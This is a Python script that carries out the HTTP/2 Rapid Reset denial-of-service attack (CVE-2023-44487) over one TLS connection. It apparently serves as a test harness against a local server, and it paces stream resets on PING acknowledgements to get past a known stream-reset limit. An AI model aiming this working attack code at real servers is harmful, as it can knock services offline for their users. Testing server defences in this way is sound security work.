#!/usr/bin/python3
"""Rapid reset (CVE-2023-44487) on one TLS connection, with raw HTTP/2 frames (python3-h2).

Usage: h2_rapid_reset.py PORT AUTHORITY PATH COUNT BATCH

Opens COUNT streams (GET PATH<id>, END_STREAM), BATCH per round. Each round sends the new
HEADERS, RST_STREAM(CANCEL) for the previous round's streams and a PING, then waits for the
PING's ACK: the server has taken the streams before they are reset, so the codec's own limit
on streams reset before they were accepted never applies (the attack the h2 crate's
max_pending_accept_reset_streams does not stop). Stops at a GOAWAY or a close, or once all
are sent; then waits (at most 10 s) for the GOAWAY or the close. Prints one JSON line:
{"sent": N, "goaway": CODE or null, "closed": BOOL}.
"""

import json
import select
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.errors


def main():
    port, authority, path = int(sys.argv[1]), sys.argv[2], sys.argv[3]
    count, batch = int(sys.argv[4]), int(sys.argv[5])
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    raw = socket.create_connection(("127.0.0.1", port))
    sock = ctx.wrap_socket(raw, server_hostname=authority.split(":")[0])
    assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    state = {"goaway": None, "closed": False, "acks": 0}
    frames = bytearray()

    def over():
        return state["goaway"] is not None or state["closed"]

    def read(wait):
        """Take what the server sent, waiting at most `wait` seconds for the first bytes."""
        ready, _, _ = select.select([sock], [], [], wait)
        if not ready and sock.pending() == 0:
            return
        try:
            data = sock.recv(65536)
        except (OSError, ssl.SSLError):
            data = b""
        if not data:
            state["closed"] = True
            return
        # GOAWAY and PING ACKs are read off the frames themselves: python-h2 may refuse a
        # frame for a stream it reset, and lose the events that came with it.
        frames.extend(data)
        while len(frames) >= 9:
            length = int.from_bytes(frames[0:3], "big")
            if len(frames) < 9 + length:
                break
            kind, flags = frames[3], frames[4]
            if kind == 0x7 and length >= 8:
                state["goaway"] = int.from_bytes(frames[13:17], "big")
            if kind == 0x6 and flags & 0x1:
                state["acks"] += 1
            del frames[: 9 + length]
        try:
            conn.receive_data(data)
        except Exception:
            pass

    sent, sid, previous = 0, 1, []
    while sent < count and not over():
        current = []
        for _ in range(min(batch, count - sent)):
            headers = [
                (":method", "GET"),
                (":scheme", "https"),
                (":authority", authority),
                (":path", "%s%d" % (path, sid)),
            ]
            conn.send_headers(sid, headers, end_stream=True)
            current.append(sid)
            sid += 2
            sent += 1
        for old in previous:
            conn.reset_stream(old, h2.errors.ErrorCodes.CANCEL)
        previous = current
        acks = state["acks"]
        conn.ping(b"rapidrst")
        try:
            sock.sendall(conn.data_to_send())
        except OSError:
            state["closed"] = True
            break
        until = time.monotonic() + 10
        while state["acks"] == acks and not over() and time.monotonic() < until:
            read(until - time.monotonic())
    if not over():
        for old in previous:
            conn.reset_stream(old, h2.errors.ErrorCodes.CANCEL)
        try:
            sock.sendall(conn.data_to_send())
        except OSError:
            state["closed"] = True
    until = time.monotonic() + 10
    while not over() and time.monotonic() < until:
        read(until - time.monotonic())
    print(json.dumps({"sent": sent, "goaway": state["goaway"], "closed": state["closed"]}))


if __name__ == "__main__":
    main()
